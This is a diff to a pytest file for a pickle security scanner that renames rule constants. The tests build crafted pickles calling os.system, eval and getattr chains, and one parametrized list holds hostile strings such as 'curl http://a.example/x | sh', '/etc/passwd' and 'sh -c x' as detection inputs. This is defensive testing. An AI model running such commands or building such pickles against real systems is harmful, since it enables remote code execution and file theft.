@@ -14,7 +14,7 @@ import pytest
 from tests.builders.inspections import context, only
 from tests.builders.opcodes import call, mapping, name, pickled, value
 from verifier.errors import BudgetExceeded
-from verifier.formats import Member
+from verifier.formats import Member, _pickle
 from verifier.formats._pickle import judge
 from verifier.formats._pickle.inspection import inspect_stream
 from verifier.formats._pickle.place import Loader
@@ -73,7 +73,7 @@ def test_what_picklers_write_of_the_standard_library_is_quiet(thing: object, pro
 
 def test_a_dangerous_call_names_symbol_arguments_and_effect() -> None:
     (finding,) = found(pickled(call("os", "system", "echo inert")))
-    assert finding.rule == judge.DANGEROUS
+    assert finding.rule == _pickle.DANGEROUS
     assert finding.message.startswith("os.system('echo inert') is called; it ")
     assert dict(finding.parameters)["symbol"] == "os.system"
     assert dict(finding.parameters)["arguments"] == "('echo inert',)"
@@ -82,29 +82,29 @@ def test_a_dangerous_call_names_symbol_arguments_and_effect() -> None:
 
 def test_an_import_that_nothing_calls_is_reported_where_it_stands() -> None:
     (finding,) = found(pickled(b"]" + name("os", "system") + b"a"))
-    assert (finding.rule, finding.evidence[0].offset) == (judge.DANGEROUS, 3)
+    assert (finding.rule, finding.evidence[0].offset) == (_pickle.DANGEROUS, 3)
     assert "is imported" in finding.message
 
 
 def test_a_call_whose_result_is_thrown_away_is_still_one() -> None:
-    assert rules(call("os", "system", "echo inert") + POP + b"N") == [judge.DANGEROUS]
+    assert rules(call("os", "system", "echo inert") + POP + b"N") == [_pickle.DANGEROUS]
 
 
 @pytest.mark.parametrize(
     ("module", "symbol", "rule"),
     [
-        ("numbers", "os.system", judge.DANGEROUS),
-        ("collections.abc", "sys.modules.get", judge.DANGEROUS),
-        ("this", "s", judge.UNLISTED),
-        ("torch._lobpcg", "lobpcg", judge.UNLISTED),
-        ("numpy", "apply_along_axis", judge.UNLISTED),
-        ("__builtin__", "eval", judge.DANGEROUS),
-        ("unheard", "Model", judge.UNKNOWN),
-        ("unheard.models", "Outer.Inner", judge.UNKNOWN),
-        ("unheard", "helpers.Model", judge.WALKED),
-        ("unheard", "os.system", judge.DANGEROUS),
-        ("__main__", "Net", judge.UNKNOWN),
-        ("os ", "system", judge.UNKNOWN),
+        ("numbers", "os.system", _pickle.DANGEROUS),
+        ("collections.abc", "sys.modules.get", _pickle.DANGEROUS),
+        ("this", "s", _pickle.UNLISTED),
+        ("torch._lobpcg", "lobpcg", _pickle.UNLISTED),
+        ("numpy", "apply_along_axis", _pickle.UNLISTED),
+        ("__builtin__", "eval", _pickle.DANGEROUS),
+        ("unheard", "Model", _pickle.UNKNOWN),
+        ("unheard.models", "Outer.Inner", _pickle.UNKNOWN),
+        ("unheard", "helpers.Model", _pickle.WALKED),
+        ("unheard", "os.system", _pickle.DANGEROUS),
+        ("__main__", "Net", _pickle.UNKNOWN),
+        ("os ", "system", _pickle.UNKNOWN),
     ],
 )
 def test_what_is_not_listed(module: str, symbol: str, rule: str) -> None:
@@ -116,12 +116,12 @@ def test_what_is_not_listed(module: str, symbol: str, rule: str) -> None:
     ["curl http://a.example/x | sh", "import os", "/etc/passwd", "__import__('x')", "subprocess.Popen", "sh -c x"],
 )
 def test_what_nobody_reviewed_with_arguments_that_show_what_it_is_for(text: str) -> None:
-    assert rules(call("unheard", "run", text)) == [judge.INTENT]
+    assert rules(call("unheard", "run", text)) == [_pickle.INTENT]
 
 
 @pytest.mark.parametrize("text", ["relu", "a sentence, like any other; or two", "1.0", "bert-base/uncased", "os"])
 def test_ordinary_texts_show_nothing(text: str) -> None:
-    assert rules(call("unheard", "Model", text)) == [judge.UNKNOWN]
+    assert rules(call("unheard", "Model", text)) == [_pickle.UNKNOWN]
 
 
 @pytest.mark.parametrize(
@@ -147,26 +147,26 @@ def test_ordinary_texts_show_nothing(text: str) -> None:
 )
 def test_listed_names_used_as_no_pickler_does(body: bytes, what: str | None) -> None:
     findings = found(pickled(body))
-    assert {finding.rule for finding in findings} & {judge.UNSAFE_CALL, judge.DANGEROUS, judge.UNLISTED}
-    assert what is None or any(what in finding.message for finding in findings if finding.rule == judge.UNSAFE_CALL)
+    assert {finding.rule for finding in findings} & {_pickle.UNSAFE_CALL, _pickle.DANGEROUS, _pickle.UNLISTED}
+    assert what is None or any(what in finding.message for finding in findings if finding.rule == _pickle.UNSAFE_CALL)
 
 
 def test_an_unsafe_call_of_a_function_with_known_dangers_says_what_it_would_do() -> None:
     unsafe, unlisted = found(pickled(call("builtins", "getattr", call("collections", "OrderedDict"), "clear")))
     assert "; such a call " in unsafe.message
-    assert unlisted.rule == judge.UNLISTED
+    assert unlisted.rule == _pickle.UNLISTED
 
 
 def test_keyword_arguments_that_no_pickler_writes() -> None:
     body = name("collections", "OrderedDict") + b")" + mapping({"key": value(1)}) + b"\x92"
-    assert rules(body, 4) == [judge.UNSAFE_CALL]
+    assert rules(body, 4) == [_pickle.UNSAFE_CALL]
     assert rules(name("collections", "OrderedDict") + b")}\x92", 4) == []
 
 
 def test_what_a_call_returned_is_called() -> None:
     body = call("collections", "OrderedDict") + value(("id",)) + b"R"
-    assert rules(body) == [judge.UNSAFE_CALL]
-    assert rules(call("unheard", "factory") + b")R") == [judge.UNKNOWN]
+    assert rules(body) == [_pickle.UNSAFE_CALL]
+    assert rules(call("unheard", "factory") + b")R") == [_pickle.UNKNOWN]
 
 
 def test_nested_classes_of_protocol_2_are_the_names_they_stand_for() -> None:
@@ -175,14 +175,14 @@ def test_nested_classes_of_protocol_2_are_the_names_they_stand_for() -> None:
         "unheard.Outer",
         "unheard.Outer.Inner()",
     ]
-    assert judge.DANGEROUS in rules(call("builtins", "getattr", name("unheard", "os"), "system") + b")R")
+    assert _pickle.DANGEROUS in rules(call("builtins", "getattr", name("unheard", "os"), "system") + b")R")
     assert rules(call("builtins", "getattr", name("uuid", "SafeUUID"), "safe")) == []
 
 
 def test_state_set_on_what_is_imported_changes_it_for_all() -> None:
     body = name("collections", "OrderedDict") + mapping({"__module__": value("x")}) + BUILD
     (finding,) = found(pickled(body))
-    assert finding.rule == judge.UNSAFE_STATE
+    assert finding.rule == _pickle.UNSAFE_STATE
     assert "collections.OrderedDict itself" in finding.message
 
 
@@ -199,7 +199,7 @@ def test_state_set_on_what_is_imported_changes_it_for_all() -> None:
     ],
 )
 def test_state_and_elements_no_pickler_writes(body: bytes) -> None:
-    assert rules(body) == [judge.UNSAFE_STATE]
+    assert rules(body) == [_pickle.UNSAFE_STATE]
 
 
 def test_every_use_of_what_nobody_reviewed_is_named_as_a_policy_would() -> None:
@@ -216,13 +216,13 @@ def test_modules_of_the_archive_itself_are_its_own() -> None:
     local = frozenset({"__torch__.m"})
     body = name("__torch__.m", "M") + b")\x81" + mapping({"training": value(False)}) + BUILD
     assert found(pickled(body), local) == []
-    assert {finding.rule for finding in found(pickled(body))} == {judge.UNKNOWN}
+    assert {finding.rule for finding in found(pickled(body))} == {_pickle.UNKNOWN}
 
 
 def test_calls_that_functions_of_torch_make_in_turn_are_judged() -> None:
     inner = name("os", "system") + name("torch", "Tensor") + value(("id",)) + b"}"
     body = name("torch._tensor", "_rebuild_from_type_v2") + b"(" + inner + b"tR"
-    assert judge.DANGEROUS in rules(body)
+    assert _pickle.DANGEROUS in rules(body)
 
 
 def test_a_constant_that_is_loaded_as_a_file_goes_back_to_be_inspected() -> None:
@@ -259,7 +259,7 @@ def test_what_was_seen_before_a_limit_is_reported() -> None:
     seen: list[Finding | Member] = []
     with pytest.raises(BudgetExceeded):
         seen.extend(records)
-    assert [finding.rule for finding in only(seen, Finding)] == [judge.DANGEROUS]
+    assert [finding.rule for finding in only(seen, Finding)] == [_pickle.DANGEROUS]
 
 
 def test_persistent_classes_of_old_torch_files_are_judged_as_themselves() -> None:
